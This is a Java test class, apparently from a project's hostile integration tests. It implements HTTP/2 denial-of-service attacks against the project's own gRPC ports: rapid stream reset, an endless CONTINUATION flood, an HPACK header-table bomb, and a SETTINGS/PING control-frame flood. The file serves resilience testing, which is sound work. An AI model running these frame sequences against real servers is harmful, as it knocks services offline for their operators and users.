package io.sluice.it.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;

/** HTTP/2 attacks on the gRPC ports below the level of calls. */
final class Http2Attacks {
  private static final int RESETS = 20_000;
  private static final int RESETS_AT_ONCE = 100;
  private static final int CONTROL_FRAMES = 50_000;
  private static final int CONTINUATIONS = 10_000;
  private static final int CONTINUATION_LENGTH = 8 << 10;

  /** RFC 9113: the peer cancels the stream. */
  private static final int CANCEL = 8;

  private Http2Attacks() {}

  /** Calls that are cancelled immediately, so that the limit of open streams is never reached. */
  static Attack rapidReset(Port port, String path) {
    return attack(
        port,
        peer -> {
          byte[] headers = Http2Peer.headers("/" + path);
          byte[] cancel = ByteBuffer.allocate(4).putInt(CANCEL).array();
          for (int i = 0; i < RESETS && !peer.isClosed(); i++) {
            int stream = peer.newStream();
            peer.frame(Http2Peer.HEADERS, Http2Peer.END_HEADERS, stream, headers);
            peer.frame(Http2Peer.RST_STREAM, 0, stream, cancel);
            if (i % RESETS_AT_ONCE == 0) {
              peer.flush();
            }
          }
        });
  }

  /** Headers with endless continuation frames. */
  static Attack endlessHeaders(Port port) {
    return attack(
        port,
        peer -> {
          int stream = peer.newStream();
          ByteArrayOutputStream more = new ByteArrayOutputStream();
          Http2Peer.header(more, "x", "a".repeat(CONTINUATION_LENGTH));
          peer.frame(Http2Peer.HEADERS, 0, stream, Http2Peer.headers("/x/y"));
          for (int i = 0; i < CONTINUATIONS && !peer.isClosed(); i++) {
            peer.frame(Http2Peer.CONTINUATION, 0, stream, more.toByteArray());
          }
        });
  }

  /** One large header in the peer's header table, referenced many times. */
  static Attack headerBomb(Port port) {
    return attack(
        port,
        peer -> {
          ByteArrayOutputStream block = new ByteArrayOutputStream();
          // Literal with indexing, so that one byte repeats it later.
          ByteArrayOutputStream literal = new ByteArrayOutputStream();
          Http2Peer.header(literal, "x", "a".repeat(3_000));
          byte[] indexed = literal.toByteArray();
          indexed[0] = 0x40;
          block.writeBytes(Http2Peer.headers("/x/y"));
          block.writeBytes(indexed);
          for (int i = 0; i < 12_000; i++) {
            block.write(0x80 | 62);
          }
          for (int i = 0; i < 100 && !peer.isClosed(); i++) {
            peer.frame(
                Http2Peer.HEADERS, Http2Peer.END_HEADERS, peer.newStream(), block.toByteArray());
          }
        });
  }

  /** Settings and pings, which require answers, from a peer that reads no answers. */
  static Attack controlFrames(Port port) {
    return attack(
        port,
        peer -> {
          byte[] setting = ByteBuffer.allocate(6).putShort((short) 4).putInt(1 << 20).array();
          for (int i = 0; i < CONTROL_FRAMES && !peer.isClosed(); i++) {
            peer.frame(Http2Peer.SETTINGS, 0, 0, setting);
            peer.frame(Http2Peer.PING, 0, 0, new byte[8]);
          }
        });
  }

  @FunctionalInterface
  private interface Frames {
    void send(Http2Peer peer) throws IOException;
  }

  private static Attack attack(Port port, Frames frames) {
    return target -> {
      Http2Peer peer = new Http2Peer(target.connect(port));
      try {
        frames.send(peer);
        peer.flush();
      } catch (IOException ended) {
        // The server has closed the connection, which is a valid defence.
      }
      return peer;
    };
  }
}
